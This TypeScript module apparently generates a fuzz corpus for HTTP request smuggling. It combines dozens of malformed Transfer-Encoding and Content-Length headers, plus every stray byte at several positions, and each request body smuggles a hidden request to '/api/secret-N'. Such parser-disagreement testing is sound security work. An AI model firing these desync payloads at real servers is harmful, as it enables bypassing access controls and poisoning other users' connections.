/** One request whose framing two parsers could read differently. */
export interface Attempt {
  /** What is odd about it, printable. */
  readonly name: string;
  readonly bytes: Buffer;
}

/**
 * A request to `/api/first-N` with `head`, and a body that holds a whole request to `/api/secret-N` for whoever takes
 * `chunked` for its framing. Behind it an honest request that ends the connection.
 */
function attempt(host: string, index: number, method: string, head: (length: number) => string): Attempt {
  const hidden = `0\r\n\r\nGET /api/secret-${index} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const fields = head(hidden.length);
  const text = `${method.replace(' ', ` /api/first-${index} `)}\r\nHost: ${host}\r\n${fields}\r\n\r\n${hidden}GET /api/last-${index} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
  return { name: JSON.stringify(`${method}: ${fields}`), bytes: Buffer.from(text, 'latin1') };
}

const codings = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: Chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip',
  'Transfer-Encoding: identity',
  'Transfer-Encoding:',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: chunked;a=b',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunk\\ed',
  'Transfer-Encoding: ch\u00fanked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: gzip\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer.Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: chunked\nX: y',
  'Connection: transfer-encoding\r\nTransfer-Encoding: chunked',
  'TE: chunked',
];
const lengths: ((length: number) => string)[] = [
  (n) => `Content-Length: ${n}`,
  (n) => `content-length:${n}`,
  (n) => `Content-Length: 0${n}`,
  (n) => `Content-Length: +${n}`,
  (n) => `Content-Length: ${n}, ${n}`,
  (n) => `Content-Length: ${n}\r\nContent-Length: ${n}`,
  (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  (n) => `Content-Length: ${n}\x0b`,
  (n) => `Content-Length : ${n}`,
  (n) => `Content_Length: 5\r\nContent-Length: ${n}`,
  (n) => `Connection: content-length\r\nContent-Length: ${n}`,
];
const lines = ['POST HTTP/1.1', 'GET HTTP/1.1', 'POST HTTP/1.0'];

/** Every spelling of one framing field with every spelling of the other, in both orders. */
export function pairs(host: string): Attempt[] {
  const result: Attempt[] = [];
  for (const [i, coding] of codings.entries()) {
    for (const [j, length] of lengths.entries()) {
      const isFirst = (i + j) % 2 === 0;
      const head = (n: number) => (isFirst ? `${coding}\r\n${length(n)}` : `${length(n)}\r\n${coding}`);
      result.push(
        attempt(host, result.length, lines[(i * lengths.length + j) % lines.length] as string, head),
      );
    }
  }
  return result;
}

const places: ((byte: string) => string)[] = [
  (b) => `${b}Transfer-Encoding: chunked`,
  (b) => `Transfer-${b}Encoding: chunked`,
  (b) => `Transfer-Encoding${b}: chunked`,
  (b) => `Transfer-Encoding:${b}chunked`,
  (b) => `Transfer-Encoding: chun${b}ked`,
  (b) => `Transfer-Encoding: chunked${b}`,
  (b) => `X: y${b}Transfer-Encoding: chunked`,
];

/** Every byte at every place of a Transfer-Encoding beside a valid Content-Length. */
export function strayBytes(host: string): Attempt[] {
  const result: Attempt[] = [];
  for (const place of places) {
    for (let byte = 0; byte < 256; byte++) {
      const head = (n: number) => `Content-Length: ${n}\r\n${place(String.fromCharCode(byte))}`;
      result.push(attempt(host, result.length, 'POST HTTP/1.1', head));
    }
  }
  return result;
}

const doubles: ((byte: string, length: number) => string)[] = [
  (b, n) => `Content-Length: ${n}\r\n${b}Content-Length: 0`,
  (b, n) => `Content-Length: ${n}\r\nContent-Length${b}: 0`,
  (b, n) => `Content-Length: ${n}\r\nContent-Length:${b}0`,
  (b, n) => `Content-Length: ${n}${b}Content-Length: 0`,
  (b, n) => `Content-Length: ${n}${b}0`,
];

/** Every byte at every place of a second Content-Length. */
export function strayLengths(host: string): Attempt[] {
  const result: Attempt[] = [];
  for (const double of doubles) {
    for (let byte = 0; byte < 256; byte++) {
      const head = (n: number) => double(String.fromCharCode(byte), n);
      result.push(attempt(host, result.length, 'POST HTTP/1.1', head));
    }
  }
  return result;
}
